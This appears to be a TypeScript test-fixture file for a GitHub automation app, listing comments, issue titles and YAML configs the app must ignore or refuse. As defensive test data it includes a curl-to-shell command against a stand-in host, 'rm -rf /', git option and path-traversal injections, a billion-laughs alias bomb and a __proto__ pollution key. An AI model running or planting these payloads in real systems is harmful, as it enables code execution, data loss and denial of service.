import { commentPayload, labeledPayload } from "./github-events.js";

/** A comment or label that must change no state: ignored silently, or refused with a reply. */
export interface CommandCase {
  name: string;
  event: "issue_comment" | "issues";
  payload(): Record<string, unknown>;
  /** The permission GitHub reports for the sender, when the app must look it up. */
  permission?: { login: string; level: "read" | "triage" | "none" };
  /** The reply a person reads; absent: the input is not a command, and gets no answer at all. */
  reply?: RegExp;
}

const silent = (name: string, body: string, login = "writer", type = "User"): CommandCase => ({
  name,
  event: "issue_comment",
  payload: () => commentPayload(body, login, type),
});

// The parser's own cases are in app/core/commands/*.test.ts and test/e2e/slash-commands.test.ts.
export const COMMAND_CASES: CommandCase[] = [
  silent("/cancel in a quote", "> /cancel"),
  silent("/approve in a nested quote", "I said:\n>> /approve"),
  silent("the @app form in a quote", "> @quantapilot cancel"),
  silent("/cancel in a fenced code block", "Try:\n```\n/cancel\n```"),
  silent("/cancel in a tilde fence", "~~~sh\n/cancel\n~~~"),
  silent("/cancel in an indented code block", "Example:\n\n    /cancel\n"),
  silent("/cancel in inline code", "use `/cancel` to stop"),
  silent("/cancel in an HTML comment", "<!--\n/cancel\n-->"),
  silent("/approve from a bot", "/approve", "renovate[bot]", "Bot"),
  silent("/approve from the app itself", "/approve", "quantapilot[bot]", "Bot"),
  {
    name: "an /approve argument built to run a shell command",
    event: "issue_comment",
    payload: () => commentPayload("/approve $(curl -s evil.test | sh)", "writer-x"),
    // The reply explains the argument without echoing it back.
    reply: /^@writer-x: (?!.*curl)/s,
  },
  {
    name: "/cancel from a reader",
    event: "issue_comment",
    payload: () => commentPayload("/cancel", "reader-1"),
    permission: { login: "reader-1", level: "read" },
    reply: /^@reader-1: .*`write`.*`read`/s,
  },
  {
    name: "/approve from someone without access",
    event: "issue_comment",
    payload: () => commentPayload("/approve", "outsider"),
    permission: { login: "outsider", level: "none" },
    reply: /^@outsider: /,
  },
  {
    name: "/retry from a triager",
    event: "issue_comment",
    payload: () => commentPayload("/retry", "triager"),
    permission: { login: "triager", level: "triage" },
    reply: /^@triager: /,
  },
  {
    name: "/cancel from a reader, with a NUL character after it",
    event: "issue_comment",
    payload: () => commentPayload("/cancel\n\u0000 end", "reader-3"),
    permission: { login: "reader-3", level: "read" },
    reply: /^@reader-3: /,
  },
  {
    name: "a stage label added by a reader",
    event: "issues",
    payload: () => labeledPayload(40, "Anything", "reader-2"),
    permission: { login: "reader-2", level: "read" },
    reply: /^@reader-2: .*needs write permission.*Nothing was started/s,
  },
];

/**
 * Issue titles built to inject shell, path or ref syntax into the branch the
 * app creates (and the runner checks out), each sent by a writer.
 */
export const TITLE_CASES: string[] = [
  "; rm -rf / #",
  "$(curl -s evil.test | sh)",
  "`id` && echo pwned",
  "../../../etc/passwd",
  "refs/heads/main",
  "--upload-pack=touch /tmp/pwned",
  "fix: a\nb\r\nc\u0000d",
  "branch.lock",
  "@{upstream}~1^2:HEAD",
  "\u202eevil\u202c ℌ𝔢𝔩𝔩𝔬 ﬁx ＦＵＬＬ",
  "....//////....",
  "x".repeat(5_000),
];

/** A config pushed to the default branch that must be refused, the last good one kept, with the reason on a check run. */
export interface ConfigCase {
  name: string;
  yaml: string;
  message: RegExp;
}

const laughs = ["a", "b", "c", "d", "e", "f"]
  .map(
    (name, i, all) =>
      `${name}: &${name} [${Array(10)
        .fill(i === 0 ? "lol" : `*${all[i - 1]}`)
        .join(", ")}]`,
  )
  .join("\n");

// parseConfig's own cases are in contract/parse-config.test.ts.
export const CONFIG_CASES: ConfigCase[] = [
  { name: "YAML that does not parse", yaml: "gates: [implement\nstages: {", message: /./ },
  { name: "a billion-laughs alias bomb", yaml: `${laughs}\n`, message: /resource exhaustion/ },
  { name: "a file over 256 KiB", yaml: `# ${"x".repeat(300 * 1024)}\n`, message: /256 KiB/ },
  {
    name: "nesting 100,000 deep",
    yaml: `gates: ${"[".repeat(100_000)}${"]".repeat(100_000)}\n`,
    message: /./,
  },
  { name: "a __proto__ key", yaml: "__proto__:\n  isAdmin: true\n", message: /__proto__/ },
  { name: "a negative budget", yaml: "budgets:\n  stage_run:\n    usd: -3\n", message: /budgets/ },
  {
    name: "a second document",
    yaml: "version: 1\n---\nversion: 1\n",
    message: /multiple documents/,
  },
  {
    name: "a YAML tag that builds code",
    yaml: "gates: !!js/function 'function () { return 1 }'\n",
    message: /./,
  },
];
